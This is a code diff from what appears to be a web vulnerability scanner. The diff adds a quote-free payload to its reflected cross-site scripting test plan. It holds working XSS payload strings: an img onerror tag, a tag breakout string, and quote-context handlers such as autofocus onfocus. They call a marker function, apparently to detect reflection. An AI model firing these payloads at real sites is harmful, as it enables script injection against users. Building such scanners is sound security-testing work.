@@ -11,6 +11,8 @@ import { injectionPoints } from './injection-points.ts';
 
 /** Breaks out of a text, an attribute or a script block and loads a picture that does not exist. */
 const markup = (mark: string): string => `"'></script></title></textarea><img src=x onerror=${mark}()>`;
+/** Without quotes, which some applications stumble over before they show anything. */
+const plainMarkup = (mark: string): string => `<img src=x onerror=${mark}()>`;
 /** Stay within quotes of a script, or within an attribute where angle brackets are escaped. */
 const quotes = (mark: string): string[] => [`'-${mark}()-'`, `"-${mark}()-"`, `" autofocus onfocus=${mark}() x="`];
 
@@ -27,7 +29,7 @@ export const planReflected = (site: SiteModel): PlanDraft[] =>
     .sort((a, b) => Number(b.text) - Number(a.text))
     .map((point) => {
       const mark = markFor('reflected-script', point.template, point.name);
-      const tries = [markup(mark), ...quotes(mark)].map((payload) => withParameter(point.path, point.name, payload));
+      const tries = [plainMarkup(mark), markup(mark), ...quotes(mark)].map((payload) => withParameter(point.path, point.name, payload));
       return hole(site, {
         page: point.page,
         url: point.path,
